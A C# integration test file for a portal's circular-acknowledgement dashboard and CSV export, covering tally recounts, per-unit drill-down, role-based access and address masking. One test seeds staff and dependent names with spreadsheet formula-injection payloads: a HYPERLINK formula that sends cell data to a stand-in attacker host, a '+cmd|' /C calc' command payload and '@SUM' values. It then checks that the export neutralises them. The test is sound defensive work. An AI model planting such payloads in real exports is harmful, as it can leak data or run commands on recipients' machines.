using AngleSharp.Html.Dom;
using Portal.Web.Domain;
using Portal.Web.Features.Acknowledgements;

namespace Portal.Tests;

/// <summary>
/// The acknowledgement dashboard and its CSV export. The demo organisation: AC > W1..W3 > two squadrons
/// each, five staff per squadron with their families; the commander commands W1.
/// </summary>
public sealed class DashboardTests(PortalFixture fixture) : IClassFixture<PortalFixture>
{
    private sealed record Tally(long Asked, long Acknowledged);

    private Task<Dictionary<string, Guid>> UnitIdsAsync() => fixture.Db(db => db.Units.ToDictionaryAsync(u => u.Code, u => u.Id));

    /// <summary>What the database says, counted here in C# from the raw rows rather than by the app's SQL.</summary>
    private Task<Dictionary<string, Tally>> TalliesUnderAsync(Guid circular, string parentCode) => fixture.Db(async db =>
    {
        var parent = await db.Units.SingleAsync(u => u.Code == parentCode);
        var children = await db.Units.Where(u => u.ParentId == parent.Id).ToListAsync();
        var asked = await db.AcknowledgementRequests.Where(a => a.CircularId == circular).MaxAsync(a => a.RevisionNumber);
        var rows = await (from a in db.AcknowledgementRequests
                          where a.CircularId == circular && a.RevisionNumber == asked
                          join u in db.Units on a.UnitId equals u.Id
                          select new { u.Path, a.AcknowledgedAt }).ToListAsync();
        return children.ToDictionary(c => c.Code, c => new Tally(
            rows.LongCount(r => r.Path.StartsWith(c.Path, StringComparison.Ordinal)),
            rows.LongCount(r => r.Path.StartsWith(c.Path, StringComparison.Ordinal) && r.AcknowledgedAt != null)));
    });

    private static long Number(string text) => long.Parse(text.Replace(",", "").Trim());

    /// <summary>The per-unit table of the page: code → (asked, acknowledged), checking outstanding on the way.</summary>
    private static Dictionary<string, Tally> UnitTable(IHtmlDocument page) =>
        page.QuerySelectorAll("table.units tbody tr").ToDictionary(
            row => row.QuerySelector("th")!.TextContent.Trim().Split(" · ")[0],
            row =>
            {
                var cells = row.QuerySelectorAll("td").Select(td => td.TextContent).ToList();
                (Number(cells[0]) - Number(cells[1])).ShouldBe(Number(cells[2]));
                return new Tally(Number(cells[0]), Number(cells[1]));
            });

    private static void ShouldMatch(Dictionary<string, Tally> actual, Dictionary<string, Tally> expected) =>
        actual.OrderBy(p => p.Key).ToList().ShouldBe(expected.OrderBy(p => p.Key).ToList());

    private static string[] Breadcrumb(IHtmlDocument page) =>
        page.QuerySelectorAll("nav.breadcrumb li").Select(li => li.TextContent.Trim()).ToArray();

    private async Task AcknowledgeAsStaffAsync(Guid id)
    {
        var staff = await fixture.SignedInAs(Scenarios.Staff);
        (await staff.PostFormAsync($"/circulars/{id}/acknowledge", new() { ["Revision"] = "1" }, $"/circulars/{id}")).StatusCode.ShouldBe(HttpStatusCode.Redirect);
    }

    private async Task AcknowledgeAsFamilyInAsync(Guid id, string squadron, int count)
    {
        var dependents = await fixture.Db(db => (from a in db.AcknowledgementRequests
                                                 where a.CircularId == id && a.DependentId != null
                                                 join u in db.Units on a.UnitId equals u.Id
                                                 where u.Code == squadron
                                                 orderby a.Id
                                                 select a.DependentId!.Value).Take(count).ToListAsync());
        dependents.Count.ShouldBe(count);
        var links = fixture.Factory.Services.GetRequiredService<FamilyLinks>();
        var anonymous = fixture.Client();
        foreach (var dependent in dependents)
            (await anonymous.Http.PostAsync($"/family/{links.CreateToken(id, 1, dependent)}", null)).StatusCode.ShouldBe(HttpStatusCode.Redirect);
    }

    /// <summary>Rows where the trigger-kept tallies and a recount from the source rows disagree, in either direction.</summary>
    private Task<List<string>> TallyDifferencesAsync() => fixture.Db(db => db.Database.SqlQuery<string>($"""
        WITH recount AS (
            SELECT 'requests' AS kind, circular_id, revision_number, unit_id, NULL::timestamptz AS at,
                   array[count(*) FILTER (WHERE dependent_id IS NULL), count(*) FILTER (WHERE dependent_id IS NULL AND acknowledged_at IS NOT NULL),
                         count(*) FILTER (WHERE dependent_id IS NOT NULL), count(*) FILTER (WHERE dependent_id IS NOT NULL AND acknowledged_at IS NOT NULL)]::int[] AS n
            FROM acknowledgement_requests GROUP BY circular_id, revision_number, unit_id
            UNION ALL
            SELECT 'hours', circular_id, revision_number, unit_id, date_trunc('hour', acknowledged_at, 'UTC'), array[count(*)]::int[]
            FROM acknowledgement_requests WHERE acknowledged_at IS NOT NULL GROUP BY 1, 2, 3, 4, 5
            UNION ALL
            SELECT 'days', circular_id, revision_number, unit_id, (acknowledged_at AT TIME ZONE 'UTC')::date::timestamp AT TIME ZONE 'UTC', array[count(*)]::int[]
            FROM acknowledgement_requests WHERE acknowledged_at IS NOT NULL GROUP BY 1, 2, 3, 4, 5
            UNION ALL
            SELECT 'delivery ' || channel, circular_id, revision_number, unit_id, NULL,
                   array[count(*) FILTER (WHERE state = 'Pending'), count(*) FILTER (WHERE state = 'Sent'),
                         count(*) FILTER (WHERE state = 'Failed'), count(*) FILTER (WHERE state = 'Bounced')]::int[]
            FROM notifications WHERE circular_id IS NOT NULL AND unit_id IS NOT NULL GROUP BY channel, circular_id, revision_number, unit_id
        ), kept AS (
            SELECT 'requests' AS kind, circular_id, revision_number, unit_id, NULL::timestamptz AS at,
                   array[staff_asked, staff_acknowledged, family_asked, family_acknowledged] AS n
            FROM acknowledgement_tallies WHERE (staff_asked, staff_acknowledged, family_asked, family_acknowledged) <> (0, 0, 0, 0)
            UNION ALL
            SELECT 'hours', circular_id, revision_number, unit_id, hour, array[acknowledged] FROM acknowledgement_hours WHERE acknowledged <> 0
            UNION ALL
            SELECT 'days', circular_id, revision_number, unit_id, day::timestamp AT TIME ZONE 'UTC', array[acknowledged] FROM acknowledgement_days WHERE acknowledged <> 0
            UNION ALL
            SELECT 'delivery ' || channel, circular_id, revision_number, unit_id, NULL, array[pending, sent, failed, bounced]
            FROM delivery_tallies WHERE (pending, sent, failed, bounced) <> (0, 0, 0, 0)
        )
        SELECT 'recount only: ' || r::text AS "Value" FROM (SELECT * FROM recount EXCEPT SELECT * FROM kept) r
        UNION ALL
        SELECT 'kept only: ' || k::text FROM (SELECT * FROM kept EXCEPT SELECT * FROM recount) k
        """).ToListAsync());

    [Fact]
    public async Task The_tallies_kept_by_triggers_always_equal_a_recount()
    {
        var id = await fixture.PublishedCircularAsync("Dashboard tallies", TlpLabel.Green, "AC", families: true);
        (await TallyDifferencesAsync()).ShouldBeEmpty("after the fan-out");
        (await fixture.Db(db => db.Set<AcknowledgementTally>().CountAsync(t => t.CircularId == id))).ShouldBeGreaterThan(0);

        await AcknowledgeAsStaffAsync(id);
        await AcknowledgeAsFamilyInAsync(id, "SQ310", 2);
        await fixture.Db(db => db.Database.ExecuteSqlAsync($"""
            UPDATE notifications SET state = CASE WHEN id % 3 = 0 THEN 'Failed' WHEN id % 3 = 1 THEN 'Bounced' ELSE 'Sent' END
            WHERE circular_id = {id} AND channel <> 'InApp';
            UPDATE notifications SET read_at = now() WHERE circular_id = {id} AND channel = 'InApp';
            UPDATE acknowledgement_requests SET acknowledged_at = acknowledged_at - interval '3 days' WHERE circular_id = {id} AND acknowledged_at IS NOT NULL;
            """));
        (await TallyDifferencesAsync()).ShouldBeEmpty("after acknowledgements and deliveries");

        var officer = await fixture.SignedInAs(Scenarios.Officer);
        (await fixture.TransitionAsync(officer, id, "amend")).StatusCode.ShouldBe(HttpStatusCode.Redirect);
        (await fixture.TransitionAsync(officer, id, "submit", new() { ["IsAmendment"] = "true", ["ChangeSummary"] = "More models.", ["ChangeKind"] = "Material" })).StatusCode.ShouldBe(HttpStatusCode.Redirect);
        (await fixture.TransitionAsync(await fixture.SignedInAs(Scenarios.Approver), id, "approve")).StatusCode.ShouldBe(HttpStatusCode.Redirect);
        await fixture.Db(db => db.Database.ExecuteSqlAsync($"""
            DELETE FROM dependents WHERE staff_member_id = (SELECT id FROM staff_members WHERE service_number = 'SN10021');
            DELETE FROM notifications WHERE circular_id = {id} AND channel = 'Sms' AND id % 2 = 0;
            """));
        (await TallyDifferencesAsync()).ShouldBeEmpty("after a material amendment and deletions");

        var (_, page) = await officer.GetPageAsync($"/circulars/{id}/acknowledgements");
        page.Body!.TextContent.ShouldContain("Requests of revision 2");
        ShouldMatch(UnitTable(page), await TalliesUnderAsync(id, "AC"));
    }

    [Fact]
    public async Task Counts_per_wing_match_the_database_after_staff_and_families_acknowledge()
    {
        var id = await fixture.PublishedCircularAsync("Dashboard counts", TlpLabel.Green, "AC", families: true);
        await AcknowledgeAsStaffAsync(id);
        await AcknowledgeAsFamilyInAsync(id, "SQ210", 2);
        await AcknowledgeAsFamilyInAsync(id, "SQ110", 1);
        var officer = await fixture.SignedInAs(Scenarios.Officer);

        var (response, page) = await officer.GetPageAsync($"/circulars/{id}/acknowledgements");

        response.StatusCode.ShouldBe(HttpStatusCode.OK);
        Breadcrumb(page).ShouldBe(["Air Command"]);
        var expected = await TalliesUnderAsync(id, "AC");
        ShouldMatch(UnitTable(page), expected);
        expected["W1"].Acknowledged.ShouldBe(2);
        expected["W2"].Acknowledged.ShouldBe(2);
        expected["W3"].Acknowledged.ShouldBe(0);

        var totals = await fixture.Db(async db => new
        {
            Staff = await db.AcknowledgementRequests.CountAsync(a => a.CircularId == id && a.DependentId == null),
            Families = await db.AcknowledgementRequests.CountAsync(a => a.CircularId == id && a.DependentId != null),
            FamiliesAcknowledged = await db.AcknowledgementRequests.CountAsync(a => a.CircularId == id && a.DependentId != null && a.AcknowledgedAt != null),
        });
        var recipients = page.QuerySelectorAll("#overall-title ~ .table-wrap tbody tr")
            .ToDictionary(r => r.QuerySelector("th")!.TextContent, r => r.QuerySelectorAll("td").Take(3).Select(td => Number(td.TextContent)).ToArray());
        recipients["Staff"].ShouldBe([totals.Staff, 1, totals.Staff - 1]);
        recipients["Families"].ShouldBe([totals.Families, 3, totals.Families - 3]);
        totals.FamiliesAcknowledged.ShouldBe(3);
        recipients["Everyone"][0].ShouldBe(totals.Staff + totals.Families);
        page.QuerySelector("svg.progress")!.GetAttribute("aria-label").ShouldBe($"4 of {totals.Staff + totals.Families} acknowledged ({4 * 100 / (totals.Staff + totals.Families)}%)");
    }

    [Fact]
    public async Task Drilling_down_to_a_wing_shows_only_its_own_subtree()
    {
        var id = await fixture.PublishedCircularAsync("Dashboard drill-down", TlpLabel.Green, "AC", families: true);
        await AcknowledgeAsStaffAsync(id);
        await AcknowledgeAsFamilyInAsync(id, "SQ220", 1);
        var units = await UnitIdsAsync();
        var officer = await fixture.SignedInAs(Scenarios.Officer);

        var (_, root) = await officer.GetPageAsync($"/circulars/{id}/acknowledgements");
        var wingLink = root.QuerySelectorAll("table.units a").Single(a => a.TextContent.StartsWith("W1 "));
        var (response, page) = await officer.GetPageAsync(wingLink.GetAttribute("href")!);

        response.StatusCode.ShouldBe(HttpStatusCode.OK);
        wingLink.GetAttribute("href").ShouldEndWith($"?unit={units["W1"]}");
        Breadcrumb(page).ShouldBe(["Air Command", "1 Wing"]);
        page.QuerySelector("nav.breadcrumb a")!.GetAttribute("href").ShouldEndWith($"?unit={units["AC"]}");
        ShouldMatch(UnitTable(page), await TalliesUnderAsync(id, "W1"));
        UnitTable(page).Keys.ShouldBe(["SQ110", "SQ120"]);
        var everyone = page.QuerySelectorAll("#overall-title ~ .table-wrap tbody tr").Last().QuerySelectorAll("td").Take(3).Select(td => Number(td.TextContent)).ToArray();
        var w1 = await TalliesUnderAsync(id, "AC");
        everyone[0].ShouldBe(w1["W1"].Asked);
        everyone[1].ShouldBe(1);
        var outstandingUnits = page.QuerySelectorAll("table.outstanding tbody tr td:last-child").Select(td => td.TextContent).Distinct().ToList();
        outstandingUnits.ShouldBe(["SQ110", "SQ120"], ignoreOrder: true);

        var squadron = (await officer.GetPageAsync($"/circulars/{id}/acknowledgements?unit={units["SQ110"]}")).Page;
        Breadcrumb(squadron).ShouldBe(["Air Command", "1 Wing", "110 Squadron"]);
        squadron.QuerySelectorAll("table.units").ShouldBeEmpty();
        squadron.Body!.TextContent.ShouldContain("has no units below it");
    }

    [Fact]
    public async Task A_commander_sees_their_own_wing_and_is_refused_anywhere_else()
    {
        var id = await fixture.PublishedCircularAsync("Dashboard for the commander", TlpLabel.Green, "AC", families: true);
        var units = await UnitIdsAsync();
        var commander = await fixture.SignedInAs(Scenarios.Commander);

        var (response, page) = await commander.GetPageAsync($"/circulars/{id}/acknowledgements");

        response.StatusCode.ShouldBe(HttpStatusCode.OK);
        Breadcrumb(page).ShouldBe(["1 Wing"]);
        ShouldMatch(UnitTable(page), await TalliesUnderAsync(id, "W1"));
        page.QuerySelectorAll("table.outstanding tbody tr td:last-child").Select(td => td.TextContent).Distinct().ShouldBe(["SQ110", "SQ120"], ignoreOrder: true);
        (await commander.GetPageAsync($"/circulars/{id}/acknowledgements?unit={units["SQ120"]}")).Response.StatusCode.ShouldBe(HttpStatusCode.OK);
        foreach (var outside in new[] { "W2", "AC", "SQ310" })
        {
            (await commander.Http.GetAsync($"/circulars/{id}/acknowledgements?unit={units[outside]}")).StatusCode.ShouldBe(HttpStatusCode.NotFound, outside);
            (await commander.Http.GetAsync($"/circulars/{id}/acknowledgements.csv?unit={units[outside]}")).StatusCode.ShouldBe(HttpStatusCode.NotFound, outside);
        }
        (await commander.Http.GetAsync($"/circulars/{Guid.NewGuid()}/acknowledgements")).StatusCode.ShouldBe(HttpStatusCode.NotFound);
    }

    [Fact]
    public async Task Staff_and_vendors_are_forbidden_and_the_circular_page_links_only_for_those_allowed()
    {
        var id = await fixture.PublishedCircularAsync("Dashboard refused", TlpLabel.Clear, "AC");
        foreach (var email in new[] { Scenarios.Staff, Scenarios.Vendor })
        {
            var client = await fixture.SignedInAs(email);
            (await client.Http.GetAsync($"/circulars/{id}/acknowledgements")).StatusCode.ShouldBe(HttpStatusCode.Forbidden, email);
            (await client.Http.GetAsync($"/circulars/{id}/acknowledgements.csv")).StatusCode.ShouldBe(HttpStatusCode.Forbidden, email);
            (await client.GetPageAsync($"/circulars/{id}")).Page.QuerySelector($"a[href='/circulars/{id}/acknowledgements']").ShouldBeNull(email);
        }
        foreach (var email in new[] { Scenarios.Officer, Scenarios.Approver, Scenarios.Auditor, Scenarios.Commander })
        {
            var client = await fixture.SignedInAs(email);
            (await client.GetPageAsync($"/circulars/{id}")).Page.QuerySelector($"a[href='/circulars/{id}/acknowledgements']").ShouldNotBeNull(email);
            (await client.Http.GetAsync($"/circulars/{id}/acknowledgements")).StatusCode.ShouldBe(HttpStatusCode.OK, email);
        }
        var anonymous = await fixture.Client().Http.GetAsync($"/circulars/{id}/acknowledgements.csv");
        anonymous.StatusCode.ShouldBe(HttpStatusCode.Redirect);
    }

    /// <summary>The outstanding list as one plain query over every request gives it: the reference the tally-guided SQL must equal.</summary>
    private Task<List<Portal.Web.Features.Notifications.Outstanding.Person>> OutstandingRecountAsync(Guid circular, string unitCode) => fixture.Db(async db =>
    {
        var path = await db.Units.Where(u => u.Code == unitCode).Select(u => u.Path).SingleAsync();
        var asked = await db.AcknowledgementRequests.Where(a => a.CircularId == circular).MaxAsync(a => a.RevisionNumber);
        var rows = await (from a in db.AcknowledgementRequests
                          where a.CircularId == circular && a.RevisionNumber == asked && a.AcknowledgedAt == null
                          join u in db.Units on a.UnitId equals u.Id
                          where u.Path.StartsWith(path)
                          join s in db.StaffMembers on a.StaffMemberId equals s.Id
                          join d in db.Dependents on a.DependentId equals d.Id into family
                          from d in family.DefaultIfEmpty()
                          orderby u.Code, s.FullName, d.FullName
                          select new { u.Code, Staff = s.FullName, s.ServiceNumber, Family = d != null ? d.FullName : null, Relationship = d != null ? d.Relationship : null })
                         .ToListAsync();
        return rows.Select(r => new Portal.Web.Features.Notifications.Outstanding.Person(r.Family ?? r.Staff, r.Relationship, r.Staff, r.ServiceNumber, r.Code))
            .ToList();
    });

    [Fact]
    public async Task The_outstanding_list_walks_units_in_code_order_and_equals_a_recount_across_unit_boundaries()
    {
        var id = await fixture.PublishedCircularAsync("Outstanding across units", TlpLabel.Green, "AC", families: true);
        await AcknowledgeAsStaffAsync(id);
        await AcknowledgeAsFamilyInAsync(id, "SQ110", 3);
        await AcknowledgeAsFamilyInAsync(id, "SQ210", 2);
        var units = await UnitIdsAsync();
        var everyone = await OutstandingRecountAsync(id, "AC");
        everyone.Select(p => p.Unit).Distinct().Count().ShouldBeGreaterThan(3, "the demo organisation spreads the outstanding over several squadrons");

        foreach (var limit in new[] { 1, 7, everyone.Count(p => p.Unit == everyone[0].Unit), everyone.Count - 1, everyone.Count, everyone.Count + 10 })
        {
            var list = await fixture.SendAsync(new Portal.Web.Features.Notifications.Outstanding.Query(id, units["AC"], limit));
            list.Total.ShouldBe(everyone.Count);
            list.People.ShouldBe(everyone.Take(limit).ToList(), $"limit {limit}");
        }
        var wing = await fixture.SendAsync(new Portal.Web.Features.Notifications.Outstanding.Query(id, units["W2"], 100));
        wing.People.ShouldBe((await OutstandingRecountAsync(id, "W2")).Take(100).ToList());
    }

    [Fact]
    public async Task The_whole_organisations_csv_holds_every_request_once_in_unit_and_service_number_order()
    {
        var id = await fixture.PublishedCircularAsync("Export in order", TlpLabel.Green, "AC", families: true);
        await AcknowledgeAsStaffAsync(id);
        await AcknowledgeAsFamilyInAsync(id, "SQ120", 2);
        var officer = await fixture.SignedInAs(Scenarios.Officer);

        var text = await officer.Http.GetStringAsync($"/circulars/{id}/acknowledgements.csv");

        var data = CsvTests.Parse(text.TrimStart('\uFEFF')).Skip(1).ToList();
        var expected = await fixture.Db(db => (from a in db.AcknowledgementRequests
                                               where a.CircularId == id
                                               join u in db.Units on a.UnitId equals u.Id
                                               join s in db.StaffMembers on a.StaffMemberId equals s.Id
                                               join d in db.Dependents on a.DependentId equals d.Id into family
                                               from d in family.DefaultIfEmpty()
                                               orderby u.Code, s.ServiceNumber, a.DependentId != null, d.FullName
                                               select new { u.Code, s.ServiceNumber, Family = d != null ? d.FullName : null })
                                              .ToListAsync());
        data.Select(r => (r[0], r[2], r[5])).ShouldBe(expected.Select(r => (r.Code, r.ServiceNumber, r.Family ?? "")).ToList());
        data.Count(r => r[10] == "FamilyLink").ShouldBe(2);
        data.Count(r => r[10] == "Portal").ShouldBe(1);
        data.Where(r => r[10] != "").ShouldAllBe(r => r[8] != "" && r[9] == "1");
    }

    [Fact]
    public async Task The_csv_lists_every_request_of_the_subtree_and_defuses_formulas()
    {
        var id = await fixture.PublishedCircularAsync("Dashboard export", TlpLabel.Green, "AC", families: true);
        await AcknowledgeAsStaffAsync(id);
        const string hyperlink = "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"Click\")";
        await fixture.Db(db => db.Database.ExecuteSqlAsync($"""
            UPDATE staff_members SET full_name = {hyperlink} WHERE service_number = 'SN10002';
            UPDATE dependents SET full_name = '+cmd|'' /C calc''!A0' WHERE id = (SELECT d.id FROM dependents d JOIN staff_members s ON s.id = d.staff_member_id WHERE s.service_number = 'SN10002' AND d.relationship = 'Spouse');
            UPDATE dependents SET full_name = '@SUM(1+1)', relationship = '-1+1' WHERE id = (SELECT d.id FROM dependents d JOIN staff_members s ON s.id = d.staff_member_id WHERE s.service_number = 'SN10003' AND d.relationship = 'Spouse');
            """));
        var units = await UnitIdsAsync();
        var officer = await fixture.SignedInAs(Scenarios.Officer);

        var response = await officer.Http.GetAsync($"/circulars/{id}/acknowledgements.csv?unit={units["W1"]}");

        response.StatusCode.ShouldBe(HttpStatusCode.OK);
        response.Content.Headers.ContentType!.MediaType.ShouldBe("text/csv");
        var reference = await fixture.Db(db => db.Circulars.Where(c => c.Id == id).Select(c => c.ReferenceNumber!).SingleAsync());
        response.Content.Headers.ContentDisposition!.DispositionType.ShouldBe("attachment");
        response.Content.Headers.ContentDisposition.FileName!.Trim('"').ShouldBe(reference.Replace('/', '-') + "-W1-acknowledgements.csv");
        var text = await response.Content.ReadAsStringAsync();
        text.ShouldEndWith("\r\n");
        var rows = CsvTests.Parse(text.TrimStart('\uFEFF'));
        rows[0].ShouldBe(Portal.Web.Features.Dashboards.Export.Header.ToArray());
        var data = rows.Skip(1).ToList();
        data.ShouldAllBe(r => r.Length == 11);
        var expected = await TalliesUnderAsync(id, "AC");
        data.Count.ShouldBe((int)expected["W1"].Asked);
        data.Select(r => r[0]).Distinct().ShouldBe(["SQ110", "SQ120"], ignoreOrder: true);

        var staffRow = data.Single(r => r[2] == "SN10002" && r[4] == "Staff");
        staffRow[3].ShouldBe("'" + hyperlink);
        data.Single(r => r[2] == "SN10002" && r[6] == "Spouse")[5].ShouldBe("'+cmd|' /C calc'!A0");
        var spouse = data.Single(r => r[2] == "SN10003" && r[4] == "Family" && r[5].Contains("SUM"));
        spouse[5].ShouldBe("'@SUM(1+1)");
        spouse[6].ShouldBe("'-1+1");
        data.Where(r => r[4] == "Family").ShouldAllBe(r => r[5] != "");
        data.SelectMany(r => r).ShouldAllBe(cell => cell == "" || !"=+-@\t\r".Contains(cell[0]));

        var acknowledged = data.Single(r => r[8] != "");
        acknowledged[2].ShouldBe("SN10001");
        acknowledged[8].ShouldMatch(@"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$");
        acknowledged[7].ShouldBe("1");
        acknowledged[9].ShouldBe("1");
        acknowledged[10].ShouldBe("Portal");
    }

    [Fact]
    public async Task Every_chart_is_an_image_with_a_name_that_states_its_numbers_beside_a_table()
    {
        var id = await fixture.PublishedCircularAsync("Dashboard charts", TlpLabel.Green, "AC", families: true);
        await AcknowledgeAsStaffAsync(id);
        var officer = await fixture.SignedInAs(Scenarios.Officer);

        var (_, page) = await officer.GetPageAsync($"/circulars/{id}/acknowledgements");

        var charts = page.QuerySelectorAll("svg");
        charts.Select(c => c.ClassList.Last()).ShouldBe(["progress", "bars", "bars", "line", "stacked"]);
        foreach (var chart in charts)
        {
            chart.GetAttribute("role").ShouldBe("img");
            chart.GetAttribute("viewBox").ShouldNotBeNull();
            chart.GetAttribute("width").ShouldBe("100%");
            var name = chart.GetAttribute("aria-label")!;
            name.ShouldMatch(@"\d");
            chart.QuerySelector("title")!.TextContent.ShouldBe(name);
            chart.ParentElement!.QuerySelector("table").ShouldNotBeNull();
        }
        charts[1].GetAttribute("aria-label")!.ShouldStartWith("Staff and families: staff 1 of ");
        charts[2].GetAttribute("aria-label")!.ShouldContain("W1 ");
        charts[3].GetAttribute("aria-label")!.ShouldContain("added up: 1 of ");
        charts[4].GetAttribute("aria-label")!.ShouldContain("E-mail");
        page.QuerySelectorAll("svg text").Select(t => t.TextContent).ShouldContain("Sent");
    }

    [Fact]
    public async Task Failed_deliveries_are_listed_with_family_addresses_hidden_from_commanders()
    {
        var id = await fixture.PublishedCircularAsync("Dashboard bounces", TlpLabel.Green, "AC", families: true);
        var address = await fixture.Db(db => db.Notifications.Where(n => n.CircularId == id && n.DependentId != null && n.Channel == NotificationChannel.Email
            && db.Units.Any(u => u.Id == n.UnitId && u.Code == "SQ110")).OrderBy(n => n.Id).Select(n => n.Address!).FirstAsync());
        await fixture.Db(db => db.Database.ExecuteSqlAsync($"""
            UPDATE notifications SET state = 'Bounced', attempts = 1, next_attempt_at = NULL, last_error = {"550 5.1.1 <" + address + ">: Recipient address rejected"}
            WHERE circular_id = {id} AND address = {address} AND channel = 'Email'
            """));
        var masked = address[0] + "•••" + address[address.IndexOf('@')..];

        var commanderPage = (await (await fixture.SignedInAs(Scenarios.Commander)).GetPageAsync($"/circulars/{id}/acknowledgements")).Page;
        var officerPage = (await (await fixture.SignedInAs(Scenarios.Officer)).GetPageAsync($"/circulars/{id}/acknowledgements")).Page;

        var row = commanderPage.QuerySelector("table.failures tbody tr")!;
        row.TextContent.ShouldContain("E-mail");
        row.TextContent.ShouldContain("Bounced");
        row.TextContent.ShouldContain("Family");
        row.TextContent.ShouldContain("SQ110");
        row.TextContent.ShouldContain(masked);
        commanderPage.Body!.TextContent.ShouldNotContain(address);
        officerPage.QuerySelector("table.failures tbody tr")!.TextContent.ShouldContain(address);
        var email = officerPage.QuerySelectorAll("#delivery-title ~ .table-wrap table:not(.failures) tbody tr").Single(r => r.QuerySelector("th")!.TextContent == "E-mail");
        Number(email.QuerySelectorAll("td")[3].TextContent).ShouldBe(1);
    }
}
